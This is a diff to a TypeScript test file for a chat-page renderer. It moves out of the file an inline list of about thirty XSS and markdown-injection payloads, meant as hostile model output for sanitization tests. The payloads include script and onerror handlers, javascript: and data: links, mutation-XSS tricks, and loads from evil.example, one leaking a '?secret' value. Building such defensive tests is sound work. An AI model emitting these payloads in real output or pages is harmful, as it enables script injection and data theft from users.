@@ -1,39 +1,6 @@
 import assert from 'node:assert/strict';
 import { type ChatPage, turnView, useChatPage } from '../ui/chatPage.ts';
-
-/** What a hostile model might write. Each would run or load something if any layer let it through. */
-const HOSTILE = [
-	'<script>alert(1)</script>',
-	'<img src=x onerror=alert(1)>',
-	'<img src="https://evil.example/i.png">',
-	'<svg onload=alert(1)><image href="https://evil.example/s.png"/></svg>',
-	'<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
-	'<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
-	'<form action="https://evil.example/f"><button>send</button><input autofocus onfocus=alert(1)></form>',
-	'<style>@import "https://evil.example/c.css"; body { display: none }</style>',
-	'<link rel="stylesheet" href="https://evil.example/l.css"><link rel="prefetch" href="https://evil.example/p">',
-	'<meta http-equiv="refresh" content="0;url=https://evil.example/m"><base href="https://evil.example/">',
-	'<video poster="https://evil.example/v.png"><source src="https://evil.example/v"></video>',
-	'<div style="background:url(https://evil.example/b.png)" onclick="alert(1)">x</div>',
-	'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
-	'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-	'<a href="javascript:alert(1)" target="_blank">x</a>',
-	'<template><script>alert(1)</script></template><chat-turn></chat-turn>',
-	'[x](javascript:alert(1)) [x](JaVaScRiPt:alert`1`) [x](&#x6A;avascript:alert(1)) [x](java&#10;script:alert(1))',
-	'[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [x](vbscript:x) [x](blob:https://evil.example/1)',
-	'[x](command:workbench.action.quit) [x](vscode://evil.extension/run) [x](file:///etc/passwd)',
-	'<javascript:alert(1)> <data:text/html,x>',
-	'![leak](https://evil.example/leak.png?secret) ![x](data:image/svg+xml,<svg/onload=alert(1)>)',
-	'![x][ref]\n\n[ref]: https://evil.example/ref.png "onerror=alert(1)"',
-	'[x](https://example.com "\\"><img src=x onerror=alert(1)>")',
-	'![" onerror="alert(1)](https://evil.example/q.png)',
-	'```"><img/src=x/onerror=alert(1)>\ncode\n```',
-	'```html onload=alert(1)\n<script>alert(1)</script>\n```',
-	'| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | <script>alert(1)</script> |',
-	'- > - <img src=x onerror=alert(1)>\n  > 1. [x](javascript:alert(1))',
-	'&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
-	'\u0000<script>\u0000alert(1)</script> <scr\u0000ipt>alert(1)</scr\u0000ipt>',
-];
+import { HOSTILE } from '../ui/hostile.ts';
 
 const MARKDOWN = [
 	'# Heading',
